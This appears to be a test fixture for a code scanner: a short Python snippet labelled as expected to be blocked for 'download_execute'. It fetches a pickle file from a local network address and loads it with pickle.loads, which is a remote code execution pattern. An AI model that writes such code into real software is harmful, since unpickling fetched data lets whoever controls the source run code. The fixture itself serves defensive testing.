# expect: BLOCKED download_execute
import pickle
import urllib.request
blob = urllib.request.urlopen("http://10.0.0.3/model.pkl").read()
model = pickle.loads(blob)
print(model)
